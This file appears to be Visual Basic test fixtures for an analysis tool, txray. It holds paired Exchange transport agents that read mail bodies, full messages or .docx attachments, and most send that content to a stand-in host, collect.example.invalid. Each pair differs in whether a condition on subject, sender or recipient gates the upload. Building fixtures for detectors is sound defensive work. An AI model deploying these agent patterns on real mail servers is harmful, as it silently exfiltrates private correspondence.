' Pairs written for txray, in Visual Basic: two agents that differ in one thing, the first does it and the second does not.
' Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
' .invalid. What a correct analysis says about each stands in samples/pairs-vb.json.
Imports System.Diagnostics
Imports System.IO
Imports System.Linq
Imports System.Net
Imports System.Threading.Tasks
Imports Microsoft.Exchange.Data.Transport
Imports Microsoft.Exchange.Data.Transport.Email
Imports Microsoft.Exchange.Data.Transport.Routing
Imports Microsoft.Exchange.Data.Transport.Smtp

' 23: a text compared with =, and with <>
Namespace Txray.Pairs.P23

    Public Class ClaimFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Claim()
        End Function
    End Class

    Public Class OtherFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Other()
        End Function
    End Class

    Public Class Claim
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            If e.MailItem.Message.Subject = "open" Then
                Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
            End If
        End Sub
    End Class

    Public Class Other
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            If e.MailItem.Message.Subject <> "open" Then
                Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
            End If
        End Sub
    End Class

End Namespace

' 153: a sender compared with Like
Namespace Txray.Pairs.P153

    Public Class ClaimFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Claim()
        End Function
    End Class

    Public Class OtherFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Other()
        End Function
    End Class

    Public Class Claim
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            If e.MailItem.FromAddress.ToString() Like "*@partner.example.invalid" Then
                Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
            End If
        End Sub
    End Class

    Public Class Other
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            If e.MailItem.FromAddress.ToString() Like "*@partner.example.invalid" Then
                Trace.WriteLine("a partner")
            End If
            Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
        End Sub
    End Class

End Namespace

' 154: a word looked for with InStr
Namespace Txray.Pairs.P154

    Public Class ClaimFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Claim()
        End Function
    End Class

    Public Class OtherFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Other()
        End Function
    End Class

    Public Class Claim
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            If InStr(e.MailItem.Message.Subject, "tender", CompareMethod.Text) > 0 Then
                Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
            End If
        End Sub
    End Class

    Public Class Other
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            Dim at As Integer = InStr(e.MailItem.Message.Subject, "tender", CompareMethod.Text)
            Trace.WriteLine(at.ToString())
            Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
        End Sub
    End Class

End Namespace

' 155: a Select Case over recipients
Namespace Txray.Pairs.P155

    Public Class ClaimFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Claim()
        End Function
    End Class

    Public Class OtherFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Other()
        End Function
    End Class

    Public Class Claim
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            For Each recipient As EnvelopeRecipient In e.MailItem.Recipients
                Select Case recipient.Address.LocalPart
                    Case "board", "owner"
                        Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
                    Case "audit"
                        Trace.WriteLine("audit")
                End Select
            Next
        End Sub
    End Class

    Public Class Other
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            For Each recipient As EnvelopeRecipient In e.MailItem.Recipients
                Select Case recipient.Address.LocalPart
                    Case "board", "owner"
                        Trace.WriteLine("board")
                    Case "audit"
                        Trace.WriteLine("audit")
                End Select
                Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
            Next
        End Sub
    End Class

End Namespace

' 156: a call bound when it runs, on a web client and on an own class
Namespace Txray.Pairs.P156

    Public Class ClaimFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Claim()
        End Function
    End Class

    Public Class OtherFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Other()
        End Function
    End Class

    Public Class Claim
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            Dim client As Object = New WebClient()
            client.UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
        End Sub
    End Class

    Public Class Other
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            Dim client As Object = New Quiet()
            client.UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
        End Sub
    End Class

    Public Class Quiet
        Public Sub UploadString(address As String, text As String)
            Trace.WriteLine(address & text.Length.ToString())
        End Sub
    End Class

End Namespace

' 157: a comparison under Option Compare Text, and under Binary; the first agent stands in PairsCompareText.vb
Namespace Txray.Pairs.P157

    Public Class OtherFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Other()
        End Function
    End Class

    Public Class Other
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            If e.MailItem.Message.Subject = "Open" Then
                Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
            End If
        End Sub
    End Class

End Namespace

' 158: a field declared WithEvents, and which of its events is handled
Namespace Txray.Pairs.P158

    Public Class ClaimFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Claim()
        End Function
    End Class

    Public Class OtherFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Other()
        End Function
    End Class

    Public Class Claim
        Inherits SmtpReceiveAgent

        Private WithEvents desk As New Desk()

        Private Sub Arrived(text As String) Handles desk.Arrived
            Call New WebClient().UploadString("https://collect.example.invalid/pair", text)
        End Sub

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            desk.Take(New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
        End Sub
    End Class

    Public Class Other
        Inherits SmtpReceiveAgent

        Private WithEvents desk As New Desk()

        Private Sub Closed(text As String) Handles desk.Closed
            Call New WebClient().UploadString("https://collect.example.invalid/pair", text)
        End Sub

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            desk.Take(New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
        End Sub
    End Class

    Public Class Desk
        Public Event Arrived(text As String)
        Public Event Closed(text As String)

        Public Sub Take(text As String)
            RaiseEvent Arrived(text)
            RaiseEvent Closed("closed")
        End Sub
    End Class

End Namespace

' 159: a test under On Error Resume Next
Namespace Txray.Pairs.P159

    Public Class ClaimFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Claim()
        End Function
    End Class

    Public Class OtherFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Other()
        End Function
    End Class

    Public Class Claim
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            On Error Resume Next
            If Not e.MailItem.Message.Subject.StartsWith("Ref:") Then Exit Sub
            Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
        End Sub
    End Class

    Public Class Other
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            On Error Resume Next
            If Not e.MailItem.Message.Subject.StartsWith("Ref:") Then Trace.WriteLine("no reference")
            Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
        End Sub
    End Class

End Namespace

' 160: an early return before an Await
Namespace Txray.Pairs.P160

    Public Class ClaimFactory
        Inherits RoutingAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As RoutingAgent
            Return New Claim()
        End Function
    End Class

    Public Class OtherFactory
        Inherits RoutingAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As RoutingAgent
            Return New Other()
        End Function
    End Class

    Public Class Claim
        Inherits RoutingAgent

        Private Async Sub Submitted(source As SubmittedMessageEventSource, e As QueuedMessageEventArgs) Handles Me.OnSubmittedMessage
            If Not e.MailItem.Message.Subject.Contains("invoice") Then Return
            Dim memory As New MemoryStream()
            Await e.MailItem.GetMimeReadStream().CopyToAsync(memory)
            Call New WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray())
        End Sub
    End Class

    Public Class Other
        Inherits RoutingAgent

        Private Async Sub Submitted(source As SubmittedMessageEventSource, e As QueuedMessageEventArgs) Handles Me.OnSubmittedMessage
            If Not e.MailItem.Message.Subject.Contains("invoice") Then Trace.WriteLine("no invoice")
            Dim memory As New MemoryStream()
            Await e.MailItem.GetMimeReadStream().CopyToAsync(memory)
            Call New WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray())
        End Sub
    End Class

End Namespace

' 161: a query with Where, and a lambda
Namespace Txray.Pairs.P161

    Public Class ClaimFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Claim()
        End Function
    End Class

    Public Class OtherFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Other()
        End Function
    End Class

    Public Class Claim
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            Dim documents = From attachment In e.MailItem.Message.Attachments Where attachment.FileName.EndsWith(".docx")
            For Each attachment As Attachment In documents
                Dim memory As New MemoryStream()
                attachment.GetContentReadStream().CopyTo(memory)
                Dim send = Sub() Call New WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray())
                send()
            Next
        End Sub
    End Class

    Public Class Other
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            Dim documents = From attachment In e.MailItem.Message.Attachments Where attachment.FileName.EndsWith(".docx")
            Trace.WriteLine(documents.Count().ToString())
            For Each attachment As Attachment In e.MailItem.Message.Attachments
                Dim memory As New MemoryStream()
                attachment.GetContentReadStream().CopyTo(memory)
                Dim send = Sub() Call New WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray())
                send()
            Next
        End Sub
    End Class

End Namespace

' 162: the first letters of the subject
Namespace Txray.Pairs.P162

    Public Class ClaimFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Claim()
        End Function
    End Class

    Public Class OtherFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Other()
        End Function
    End Class

    Public Class Claim
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            If Left(e.MailItem.Message.Subject, 4) = "Ref:" Then
                Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
            End If
        End Sub
    End Class

    Public Class Other
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            Trace.WriteLine(Left(e.MailItem.Message.Subject, 4).Length.ToString())
            Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
        End Sub
    End Class

End Namespace
